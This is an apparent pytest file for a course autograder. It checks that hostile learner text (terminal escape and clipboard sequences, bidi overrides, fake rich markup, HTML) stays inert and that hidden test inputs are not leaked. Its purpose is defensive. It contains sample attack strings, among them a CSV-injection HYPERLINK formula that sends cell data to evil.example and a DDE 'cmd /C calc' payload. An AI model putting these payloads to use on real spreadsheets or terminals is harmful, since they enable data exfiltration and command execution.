"""Learner text is inert wherever it is shown, and what a learner sees at once is bounded.

A submission whose exception (message and class name) holds every kind of text that acts
where it is shown (``tests/adversarial/hostile_text.py``: ESC[2J, OSC 52, OSC 8, a carriage
return, C1 CSI, a bidi override, rich markup faking a green 100/100, HTML, Markdown, table
pipes) is graded once by ``mha-grade`` on a colour terminal; its table, its JSON report and
its Gradescope results, then every other writer fed that report (``check()``'s verdict, the
classroom's feedback and summary), must hold none of it raw. ``leak_inputs.py`` encodes each
hidden case's input in an exception of its own: what a learner sees at once holds at most
``LEARNER_CHARS`` characters of it per exercise, no expected value and no seed.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.classroom.write import gradescope
from autograder.inert import LearnerText, excerpt, inert, markdown
from autograder.scoring import shown_points

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = Path(__file__).resolve().parent / "adversarial"
SEED = 195529710
# What must never reach a terminal or a page as it was written.
RAW = {"ESC": "\x1b", "BEL": "\x07", "CR": "\r", "C1 CSI": "\x9b", "bidi override": "\u202e",
       "bidi pop": "\u202c"}
HOSTILE_NAME = "notes\x1b[2J\x1b]52;c;aGk=\x07\r[blink]ok\u202e.txt"  # no "/": one file
LEAK = re.compile(r"(?:LEAK|Leak)[a-p]+")  # leak_inputs.py's encoding of a case's input


def _submission(tmp_path: Path, hostile: str) -> Path:
    dest = tmp_path / "submission"
    dest.mkdir()
    for f in (ROOT / "solutions").glob("*.py"):
        if f.name != "__init__.py":
            shutil.copy(f, dest / f.name)
    with open(dest / "attention.py", "a") as f:
        f.write("\n\n" + (HOSTILE / f"{hostile}.py").read_text())
    return dest


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _raw(text: str, allow_esc: bool = False) -> list[str]:
    return [name for name, seq in RAW.items() if seq in text and not (allow_esc and name == "ESC")]


# --------------------------------------------------------------------------- the pieces

def test_inert_shows_each_control_as_an_escape():
    hostile = (HOSTILE / "hostile_text.py").read_text()
    scope: dict = {}
    exec(compile(hostile, "hostile_text.py", "exec"), scope)
    text = scope["HOSTILE"]
    shown = inert(text)
    assert _raw(shown) == [] and "\n" not in shown
    assert "\\x1b[2J" in shown and "\\x9b" in shown and "\\u202e" in shown and "\\r" in shown
    assert inert("softmax: 5/5 ✔ é") == "softmax: 5/5 ✔ é"  # printable text is left as written
    assert inert("two\nlines\r", newlines=True) == "two\nlines\\r"
    assert len(excerpt("x" * 500, 48)) == 48 and excerpt("short", 48) == "short"
    from autograder.submission import SubmissionError
    assert _raw(str(SubmissionError(f"{HOSTILE_NAME} is larger than 10 bytes"))) == []
    md = markdown(text)
    assert _raw(md) == [] and "<" not in md and "|" not in md.replace("\\|", "")
    assert "[" not in md.replace("\\[", "")


def test_shown_points_parts_add_up_to_the_total():
    parts, total = shown_points([10 / 3, 40 / 9, 5.0, 5 - 1e-12, 0.0])
    assert parts == [3.33, 4.44, 5.0, 5.0, 0.0] and total == 17.77 == round(sum(parts), 2)
    # Many thirds: the rounded parts, not the exact sum (which would round to 56.67), make the total.
    parts, total = shown_points([10 / 3] * 17)
    assert total == 56.61 and f"{sum(parts):.2f}" == "56.61"


def test_every_writer_writes_points_one_way():
    """One formatter (scoring.points) for the terminal, check(), Gradescope and the class files:
    2.675 of 3.5 points reads "2.68/3.5" in each (the one rounding rule, no trailing zero)."""
    from autograder import report, scoring
    from autograder.classroom.write import classfiles, feedback, lms

    from mha_exercises.check import verdict

    writers = (report, gradescope, lms, classfiles, feedback)
    assert all(w.points is scoring.points for w in writers), [w.__name__ for w in writers]
    result = {"id": "softmax", "score": 2.675, "max_score": 3.5, "status": "partial", "cases": [], "feedback": "",
              "notes": []}
    assert "softmax: 2.68/3.5 points" in verdict({"exercises": [result]})


def test_a_failing_case_keeps_its_cause_in_parts():
    """What the visible output may show (the type, file, line) apart from the learner's words."""
    from autograder.scoring import cause_parts
    from autograder.spec import CaseError

    message = "ValueError: shapes (2,3) and (4,) (attention.py, line 12: raise ValueError(f'shapes {a} and {b}'))"
    assert cause_parts(CaseError("exception", message), []) == {"kind": "exception", "type": "ValueError",
                                                                "file": "attention.py", "line": 12,
                                                                "text": "shapes (2,3) and (4,)"}
    assert cause_parts(CaseError("import", "masking.py: SyntaxError: invalid syntax (masking.py, line 3)"), []) == {
        "kind": "import", "type": "SyntaxError", "file": "masking.py", "line": 3, "text": "invalid syntax"}
    # In the notes' words, as the grader now says it (exchange.in_the_notes_words): the code is not the message.
    notes = "masking.py: SyntaxError at line 3: invalid syntax (`def f(:`)"
    assert cause_parts(CaseError("import", notes), []) == {
        "kind": "import", "type": "SyntaxError", "file": "masking.py", "line": 3, "text": "invalid syntax"}
    assert cause_parts(CaseError("exception", "SystemExit (exiting is not a result)"), [])["type"] == "SystemExit"
    assert cause_parts(CaseError("timeout", "no result within 2 s"), []) == {"kind": "timeout"}
    shape = cause_parts(None, ["the result has shape (2, 3), expected (2, 4)"])
    assert shape == {"kind": "mismatch", "what": "shape"}
    assert cause_parts(None, ["the result differs from the reference at 3 of 4 entries"])["what"] == "values"


# ------------------------------------------------------------------- every writer, hostile

@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``mha-grade`` on the hostile submission, as an instructor runs it on a colour terminal."""
    tmp = tmp_path_factory.mktemp("hostile")
    sub = _submission(tmp, "hostile_text")
    (sub / HOSTILE_NAME).write_text("not an exercise")  # listed as "not graded" by its name
    out_json, out_gs = tmp / "report.json", tmp / "results.json"
    env = dict(os.environ, OMP_NUM_THREADS="1", FORCE_COLOR="1", TERM="xterm-256color", COLUMNS="400")
    env.pop("NO_COLOR", None)
    proc = subprocess.run([sys.executable, "-m", "autograder", str(sub), "-e", "softmax", "-e", "causal_mask",
                           "--json", str(out_json), "--gradescope", str(out_gs), "--seed", str(SEED)],
                          capture_output=True, text=True, env=env, cwd=tmp, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return proc, json.loads(out_json.read_text()), json.loads(out_gs.read_text())


def test_the_terminal_shows_hostile_text_as_characters(hostile_run):
    proc, report, _ = hostile_run
    assert report["exercises"][0]["score"] == 0  # the attack ran: softmax raised
    out = proc.stdout + proc.stderr
    assert "\x1b[" in out  # rich's own colours are on: the terminal is a colour one
    for seq in ("\x1b[2J", "\x1b[H", "\x1b]", "\x07", "\r", "\x9b", "\u202e"):
        assert seq not in out, repr(seq)
    assert "\\x1b[2J" in out  # shown, as an escape
    # rich markup in the learner's text is printed as its characters, never painted green
    assert "[green]100/100[/]" in out and "[green]Fake[/]" in out
    assert "notes\\x1b[2J" in out and "[blink]ok" in out  # the file's name, in "not graded"
    assert not re.search(r"\x1b\[[0-9;]*32m[^\x1b]*100/100", out)


def test_json_and_gradescope_results_hold_no_raw_control(hostile_run):
    _, report, results = hostile_run
    for data in (report, results):
        for s in _strings(data):
            assert _raw(s) == [], (s[:80], _raw(s))
    text = json.dumps(results)
    assert str(SEED) not in text and "notes\\x1b[2J" in results["output"]
    assert results["output_format"] == "text" and {t["output_format"] for t in results["tests"]} == {"text"}
    visible = "\n".join(t["output"] for t in results["tests"] if t["visibility"] == "visible")
    assert "evil.example" not in visible  # past the excerpt's few characters


def test_check_verdict_and_classroom_writers_inherit_it(hostile_run):
    from rich.console import Console

    from autograder.classroom.write import feedback, summary
    from mha_exercises.check import verdict

    _, report, _ = hostile_run
    printed = verdict(report)
    assert _raw(printed) == [] and "\\x1b[2J" in printed
    row = {"final": report["score"], "score": report["score"], "late": "", "status": "graded"}
    md = feedback.to_markdown(LearnerText("learner", "id"), report, row, "Attention")
    html = feedback.to_html(md, "Attention", LearnerText("learner", "id"))
    stats = summary.summarize({"learner": report})
    console = Console(record=True, force_terminal=True, width=200, color_system="standard")
    console.print(summary.to_table(stats))
    for name, text in (("feedback.md", md), ("feedback.html", html), ("summary.md", summary.to_markdown(stats)),
                       ("summary table", console.export_text(styles=True))):
        assert _raw(text, allow_esc=name == "summary table") == [], name
    assert "<script" not in html and "\x1b[2J" not in console.export_text(styles=True)
    # The pipes in the learner's text do not add cells to the feedback's table.
    rows = [line for line in md.splitlines() if line.startswith("| `")]
    assert len(rows) == 2 and all(line.replace("\\|", "").count("|") == 5 for line in rows)


def test_feedback_html_holds_no_link_or_image_of_the_learner(hostile_run):
    from autograder.classroom.write import feedback

    _, report, _ = hostile_run
    row = {"final": 0, "score": 0, "late": "", "status": "graded"}
    who = LearnerText("learner", "id")
    html = feedback.to_html(feedback.to_markdown(who, report, row, "Attention"), "Attention", who)
    assert "evil.example" not in re.sub(r"&[a-z]+;", "", "".join(re.findall(r"<(?:a|img)\b[^>]*>", html)))


# ------------------------------------------------------------- what learners see at once

def _exercise(cases, status="failed", score=0.0, max_score=5.0):
    return {"id": "softmax", "status": status, "score": score, "max_score": max_score, "feedback": "x",
            "notes": [], "ladder": "", "cases": cases}


def test_visible_learner_text_is_capped_per_exercise_not_per_case():
    def leak(i):
        message = "LEAK" + "abcdefghijklmnop"[i % 16] * 400
        return {"name": f"case {i}", "score": 0.0, "max_score": 0.5, "passed": False, "diagnosis": None,
                "feedback": f"raised Leak{i}: {message}",
                "cause": {"kind": "exception", "type": f"Leak{'abcdefghijklmnop'[i % 16] * 30}{i}",
                          "file": "attention.py", "line": 10 + i, "text": message}}
    for n in (1, 10, 100):
        r = gradescope.results({"seed": SEED, "exercises": [_exercise([leak(i) for i in range(n)])]})
        (visible,) = [t["output"] for t in r["tests"] if t["visibility"] == "visible"]
        (later,) = [t["output"] for t in r["tests"] if t["visibility"] == "after_published"]
        leaked = sum(len(m) for m in LEAK.findall(visible))
        assert 0 < leaked <= gradescope.LEARNER_CHARS, (n, leaked)
        assert sum(len(m) for m in LEAK.findall(later)) >= 400 * n  # told in full, once published
        assert len(visible.encode()) < 600 + 40 * n  # the case list, one short line per case


def test_visible_output_never_states_an_expected_value():
    mismatch = {"name": "logits of ±100", "score": 0.0, "max_score": 1.0, "passed": False, "diagnosis": None,
                "feedback": "the result differs from the reference at 3 of 4 entries; the largest error is 0.4 at "
                            "index (0, 1) (got 0.068906, expected 0.468906; tolerance rtol=1e-05, atol=1e-06)",
                "cause": {"kind": "mismatch", "what": "values"}}
    shape = dict(mismatch, name="3-D", feedback="the result has shape (2, 3), expected (2, 4)",
                 cause={"kind": "mismatch", "what": "shape"})
    r = gradescope.results({"seed": SEED, "exercises": [_exercise([mismatch, shape])]})
    visible = "\n".join([r["output"]] + [t["output"] for t in r["tests"] if t["visibility"] == "visible"])
    assert "0.468906" not in visible and "expected" not in visible and "(2, 4)" not in visible
    assert "wrong shape" in visible and "differ" in visible
    later = [t["output"] for t in r["tests"] if t["visibility"] == "after_published"]
    assert "0.468906" in later[0]


def test_leaking_submission_through_the_cli(tmp_path):
    """The attack from outside: the same writer serves ``mha-grade --gradescope`` and the bundle."""
    sub = _submission(tmp_path, "leak_inputs")
    out_gs, out_json = tmp_path / "results.json", tmp_path / "report.json"
    env = dict(os.environ, OMP_NUM_THREADS="1")
    proc = subprocess.run([sys.executable, "-m", "autograder", str(sub), "-e", "softmax", "--json", str(out_json),
                           "--gradescope", str(out_gs), "--seed", str(SEED), "--quiet"],
                          capture_output=True, text=True, env=env, cwd=tmp_path, timeout=300)
    assert proc.returncode == 0, proc.stderr
    results = json.loads(out_gs.read_text())
    visible = "\n".join([results["output"]]
                        + [t["output"] for t in results["tests"] if t["visibility"] == "visible"])
    later = "\n".join(t["output"] for t in results["tests"] if t["visibility"] == "after_published")
    leaked_later = sum(len(m.encode()) for m in LEAK.findall(later))
    # the attack is real: its inputs fill the details up to their budget (bytes of UTF-8)
    assert gradescope.LEARNER_CHARS < leaked_later <= gradescope.DETAILS_EXERCISE_BYTES
    assert 0 < sum(len(m.encode()) for m in LEAK.findall(visible)) <= gradescope.LEARNER_CHARS
    assert "expected" in later and "expected" not in visible
    # No number of the hidden cases appears, at once or later ("got …, expected …").
    assert not re.findall(r"-?\d+\.\d{3,}(?:e[-+]?\d+)?", later + visible)
    assert str(SEED) not in json.dumps(results)
    assert [t["max_score"] for t in results["tests"] if t["visibility"] == "visible"] == [5.0]


def test_grades_csv_holds_no_formula_of_the_learner():
    """A folder name or an exception message is a learner's; opened in a spreadsheet, a cell
    starting with = + - @ would run as a formula (CSV injection)."""
    import csv
    import io

    from autograder.classroom.write.classfiles import grades_csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"100/100")'
    report = {"max_score": 5.0, "error": "@SUM(1+1)*cmd|' /C calc'!A0\nmore", "exercises": [
        {"id": "softmax", "score": 1.0, "max_score": 5.0}]}
    row = {"id": hostile, "submitted_as": "+1-555", "report": report, "parts": {"softmax": 1.0}, "score": 1.0,
           "late": "", "adjusted": 0.0, "final": 1.0, "status": "graded", "submitted": "", "adjustments": [],
           "shown": LearnerText(hostile, "id"), "shown_as": LearnerText("+1-555", "sid"),
           "error": LearnerText(report["error"].splitlines()[0], "refusal")}
    cells = [c for line in csv.reader(io.StringIO(grades_csv([row], {"x": report}))) for c in line]
    assert hostile not in cells and "'" + hostile in cells and "'+1-555" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))], cells


def _number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_a_child_that_forges_its_kinds_and_records_gains_nothing(tmp_path):
    """``forge_kinds.py`` relabels its own exceptions as the grader's kinds (timed out, died, out
    of memory, not attempted) and writes "did not import" records for the other modules, each
    carrying the case's input: from outside (the JSON report and Gradescope's results), no kind
    the grader words itself comes from it, no note holds its text, softmax keeps its 5 points,
    and what a learner sees at once holds at most ``LEARNER_CHARS`` of its text per exercise."""
    sub = _submission(tmp_path, "forge_kinds")
    out_gs, out_json = tmp_path / "results.json", tmp_path / "report.json"
    proc = subprocess.run([sys.executable, "-m", "autograder", str(sub), "-e", "softmax", "-e",
                           "scaled_dot_product_attention", "--json", str(out_json), "--gradescope", str(out_gs),
                           "--seed", str(SEED), "--quiet"], capture_output=True, text=True,
                          env=dict(os.environ, OMP_NUM_THREADS="1"), cwd=tmp_path, timeout=300)
    assert proc.returncode in (0, 1), proc.stderr
    report = {e["id"]: e for e in json.loads(out_json.read_text())["exercises"]}
    softmax, sdpa = report["softmax"], report["scaled_dot_product_attention"]
    assert "FORGE-NOT-FOUND" not in json.dumps(report)  # the attack ran: it found the frame it forges
    assert (softmax["score"], softmax["status"]) == (softmax["max_score"], "passed")
    assert any("masking.py does not import" in n for n in softmax["notes"])  # the forged records were sent...
    assert not LEAK.findall(" ".join(softmax["notes"] + sdpa["notes"]))  # ...and none of their text is a note
    assert sdpa["score"] == 0 and sdpa["status"] not in ("timed out", "error", "not attempted")
    kinds = {c["cause"]["kind"] for c in sdpa["cases"]}
    assert kinds == {"exception"}, kinds
    assert not any(c["feedback"].startswith(("timed out", "the process running", "ran out of memory", "not attempted"))
                   for c in sdpa["cases"])
    results = json.loads(out_gs.read_text())
    visible = [results["output"]] + [t["output"] for t in results["tests"] if t["visibility"] == "visible"]
    later = "\n".join(t["output"] for t in results["tests"] if t["visibility"] == "after_published")
    assert sum(len(m) for m in LEAK.findall(later)) > 2 * gradescope.LEARNER_CHARS  # the text is real
    assert sum(len(m.encode()) for m in LEAK.findall(later)) <= 2 * gradescope.DETAILS_EXERCISE_BYTES
    per_output = [sum(len(m.encode()) for m in LEAK.findall(text)) for text in visible]
    assert max(per_output) <= gradescope.LEARNER_CHARS, per_output
